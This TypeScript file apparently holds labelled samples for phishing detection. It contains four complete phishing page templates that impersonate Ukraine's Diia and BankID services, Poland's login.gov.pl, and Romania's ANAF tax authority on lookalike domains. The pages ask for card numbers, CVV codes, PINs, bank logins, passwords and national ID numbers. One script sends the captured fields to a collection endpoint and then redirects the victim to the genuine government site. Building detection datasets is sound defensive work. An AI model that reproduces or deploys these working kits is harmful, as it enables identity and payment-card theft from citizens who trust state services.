import { htmlRoute, type Entry } from '../entry.js';
import { doc, cardCss, mark, uaFlag, cardIcons, luhnJs, cardFormatJs } from '../parts/ym-kit.js';

const diiaCss = `*{box-sizing:border-box}body{margin:0;font-family:'e-Ukraine',Arial,sans-serif;background:linear-gradient(180deg,#c6e2f0 0%,#e2ecd9 100%);min-height:100vh;color:#000}
.hd{display:flex;align-items:center;justify-content:space-between;padding:18px 32px}.hd .l{display:flex;align-items:center;gap:12px;font-weight:700;font-size:20px}
.dia{width:44px;height:44px;border-radius:50%;background:#000;color:#fff;display:flex;align-items:center;justify-content:center;font-size:14px;font-weight:700}
.box{max-width:520px;margin:20px auto 60px;background:#fff;border-radius:24px;padding:36px}
h1{font-size:26px;margin:0 0 10px}.lead{color:#444;margin:0 0 22px}
label{display:block;font-size:13px;color:#555;margin:12px 0 6px}input{width:100%;border:1px solid #ccc;border-radius:12px;padding:14px;font-size:16px}
.row{display:flex;gap:10px}.btn{margin-top:22px;width:100%;background:#000;color:#fff;border:0;border-radius:40px;padding:16px;font-size:16px;cursor:pointer}
.small{font-size:12px;color:#666;margin-top:14px}.pill{display:inline-block;background:#000;color:#fff;border-radius:20px;padding:4px 12px;font-size:12px;margin-bottom:14px}`;

export const entries: Entry[] = [
{
  id: 'ym-diia-yepidtrymka-card',
  label: 'phishing',
  kind: 'state-service-kit-ua',
  url: 'https://diia-vyplaty.com/epidtrymka/',
  body: doc({
    lang: 'uk',
    title: 'Дія | єПідтримка — отримання виплати',
    css: diiaCss,
    body: `<div class="hd"><div class="l"><div class="dia">Дія</div>Дія. Державні послуги онлайн</div><div>${uaFlag}</div></div>
<div class="box">
<span class="pill">Залишилось 2 дні</span>
<h1>Виплата 6 500 грн від держави</h1>
<p class="lead">Згідно з постановою КМУ №1136 громадяни, які ще не отримали допомогу, можуть оформити одноразову виплату. Вкажіть картку будь-якого українського банку для зарахування.</p>
<form id="d" method="post" action="/epidtrymka/submit.php">
<label>Прізвище та ім'я</label><input name="name" required>
<label>Номер телефону</label><input name="phone" type="tel" value="+380" required>
<label>Номер картки</label><input name="card" id="n" inputmode="numeric" placeholder="0000 0000 0000 0000" required>
<div class="row"><div style="flex:1"><label>Термін дії</label><input name="exp" id="x" placeholder="ММ/РР" required></div><div style="flex:1"><label>CVV</label><input name="cvv" type="password" maxlength="3" required></div></div>
<button class="btn" type="submit">Оформити виплату</button>
<p class="small">Дані захищено. Міністерство цифрової трансформації України. ${cardIcons}</p>
</form></div>
<script>${luhnJs}${cardFormatJs}fmtCard(document.getElementById('n'));fmtExp(document.getElementById('x'));
document.getElementById('d').onsubmit=function(e){if(!luhn(this.card.value)){e.preventDefault();alert('Невірний номер картки')}}</script>`,
  }),
},
{
  id: 'ym-bankid-selector-bank-login',
  label: 'phishing',
  kind: 'state-service-kit-ua',
  url: 'https://id-gov-ua.bankid-vhid.com/',
  body: doc({
    lang: 'uk',
    title: 'Інтегрована система електронної ідентифікації — BankID НБУ',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f5f7fa;color:#222}.top{background:#1d2a3a;color:#fff;padding:16px 30px;font-size:18px}
.c{max-width:760px;margin:30px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;margin-top:18px}.bank{border:1px solid #dde2e8;border-radius:6px;padding:18px;text-align:center;cursor:pointer;font-weight:600}
.bank:hover{border-color:#1d6fd8}#login{display:none;max-width:360px;margin:20px auto}#login input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 14px;border:1px solid #ccc;border-radius:4px}
#login button{width:100%;padding:13px;background:#1d6fd8;color:#fff;border:0;border-radius:4px;font-size:15px}`,
    body: `<div class="top">${uaFlag} id.gov.ua — Вхід до електронних послуг</div>
<div class="c">
<div id="pick"><h2>Оберіть ваш банк</h2><p>Для входу до кабінету отримувача державної допомоги оберіть банк, у якому ви обслуговуєтесь.</p>
<div class="grid">
<div class="bank" data-b="ПриватБанк" style="color:#4c9a2a">ПриватБанк</div><div class="bank" data-b="monobank">monobank</div><div class="bank" data-b="Ощадбанк" style="color:#0d6b3a">Ощадбанк</div>
<div class="bank" data-b="ПУМБ" style="color:#d4002a">ПУМБ</div><div class="bank" data-b="Райффайзен Банк" style="color:#c8a000">Райффайзен Банк</div><div class="bank" data-b="А-Банк">А-Банк</div>
<div class="bank" data-b="Sense Bank">Sense Bank</div><div class="bank" data-b="Укргазбанк">Укргазбанк</div><div class="bank" data-b="Укрсиббанк">Укрсиббанк</div></div></div>
<div id="login"><h2 id="bn"></h2><p>Увійдіть до інтернет-банкінгу, щоб підтвердити особу.</p>
<form id="lf"><input type="hidden" name="bank" id="bank"><label>Номер телефону або логін</label><input name="login" required><label>Пароль</label><input name="password" type="password" required>
<label>Номер картки</label><input name="card" inputmode="numeric" required><label>PIN-код</label><input name="pin" type="password" maxlength="4" required><button>Продовжити</button></form></div>
</div>
<script>
document.querySelectorAll('.bank').forEach(function(b){b.onclick=function(){document.getElementById('pick').style.display='none';document.getElementById('login').style.display='block';document.getElementById('bn').textContent=b.dataset.b;document.getElementById('bank').value=b.dataset.b}});
document.getElementById('lf').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});
navigator.sendBeacon('/collect/bid.php',JSON.stringify(o));setTimeout(function(){location.href='https://id.gov.ua/'},700)};
</script>`,
  }),
},
{
  id: 'ym-profil-zaufany-bank-pick',
  label: 'phishing',
  kind: 'state-service-kit-pl',
  url: 'https://pz-gov.pl-logowanie.info/login/',
  body: doc({
    lang: 'pl',
    title: 'Login.gov.pl - Zaloguj się',
    css: `body{margin:0;font-family:'Source Sans Pro',Arial,sans-serif;background:#f6f6f6;color:#1b1b1b}
.g{background:#fff;border-bottom:1px solid #ddd;padding:14px 40px;display:flex;gap:14px;align-items:center}.g .f{width:40px;height:26px;background:linear-gradient(#fff 50%,#dc143c 50%);border:1px solid #ccc}
.w{max-width:900px;margin:30px auto;padding:0 16px}.opts{display:grid;grid-template-columns:repeat(4,1fr);gap:14px}.o{background:#fff;border:1px solid #d0d0d0;padding:22px 10px;text-align:center;cursor:pointer;font-weight:600}
.o:hover{border-color:#0052a5}h1{font-weight:600}.modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.4)}.modal .in{background:#fff;max-width:380px;margin:90px auto;padding:30px}
.modal input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 14px;border:1px solid #aaa}.modal button{background:#0052a5;color:#fff;border:0;padding:12px 26px;font-size:15px}`,
    body: `<div class="g"><span class="f"></span><b>login.gov.pl</b> <span style="color:#666">Węzeł Krajowy</span></div>
<div class="w"><h1>Wybierz sposób logowania</h1><p>Aby odebrać zwrot nadpłaty podatku w e-Urzędzie Skarbowym, potwierdź tożsamość przez bankowość elektroniczną.</p>
<div class="opts">
<div class="o" data-b="PKO Bank Polski">PKO BP</div><div class="o" data-b="Pekao">Pekao</div><div class="o" data-b="mBank">mBank</div><div class="o" data-b="ING Bank Śląski">ING</div>
<div class="o" data-b="Santander">Santander</div><div class="o" data-b="Millennium">Millennium</div><div class="o" data-b="Alior Bank">Alior</div><div class="o" data-b="Credit Agricole">Credit Agricole</div>
</div><p style="margin-top:24px;font-size:14px">Profil zaufany · e-dowód · aplikacja mObywatel</p></div>
<div class="modal" id="m"><div class="in"><h2 id="bn"></h2><form method="post" action="/login/bank.php"><input type="hidden" name="bank" id="bk">
<label>Login / identyfikator</label><input name="login" required><label>Hasło</label><input name="pass" type="password" required><label>PESEL</label><input name="pesel" maxlength="11" required>
<button>Zaloguj</button></form></div></div>
<script>document.querySelectorAll('.o').forEach(function(o){o.onclick=function(){document.getElementById('bn').textContent=o.dataset.b;document.getElementById('bk').value=o.dataset.b;document.getElementById('m').style.display='block'}})</script>`,
  }),
},
{
  id: 'ym-anaf-ro-tax-refund-card',
  label: 'phishing',
  kind: 'state-service-kit-ro',
  url: 'https://anaf-ro.rambursare-impozit.com/spv/',
  body: doc({
    lang: 'ro',
    title: 'ANAF - Spațiul Privat Virtual | Rambursare',
    css: cardCss('#1c3f94', '#f0f2f5') + `.card{max-width:540px}.sum{font-size:30px;color:#1c3f94;font-weight:700;margin:6px 0 16px}`,
    body: `<header class="top">${mark('ANAF', '#1c3f94', 'Agenția Națională de Administrare Fiscală', { w: 420 })}</header>
<main><div class="card">
<h1>Notificare de rambursare</h1>
<p class="sub">În urma recalculării impozitului pe venit pentru anul fiscal 2023, aveți dreptul la o rambursare în valoare de:</p>
<div class="sum">1.240,00 lei</div>
<form method="post" action="/spv/trimite.php">
<div class="field"><label>Nume și prenume</label><input name="nume" required></div>
<div class="field"><label>CNP</label><input name="cnp" maxlength="13" inputmode="numeric" required></div>
<div class="field"><label>Număr card pentru rambursare</label><input name="card" id="cn" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>Expirare</label><input name="exp" id="ce" placeholder="LL/AA" required></div><div class="field"><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<button class="btn">Solicită rambursarea</button>
<p class="muted">Sumele sunt virate în termen de 3 zile lucrătoare. ${cardIcons}</p></form>
</div></main>
<footer class="bottom">© Agenția Națională de Administrare Fiscală - Str. Apolodor nr. 17, Sector 5, București</footer>
<script>${cardFormatJs}fmtCard(document.getElementById('cn'));fmtExp(document.getElementById('ce'));</script>`,
  }),
},
];
